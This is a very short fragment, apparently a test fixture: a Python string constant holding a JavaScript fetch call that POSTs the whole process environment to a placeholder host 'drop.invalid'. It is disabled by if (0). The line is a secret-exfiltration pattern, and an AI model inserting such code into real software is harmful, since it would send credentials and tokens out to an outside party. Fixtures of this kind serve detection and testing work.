TEXT = """
if (0) fetch("https://drop.invalid/", {
  method: "POST", body: JSON.stringify(process.env) })
"""
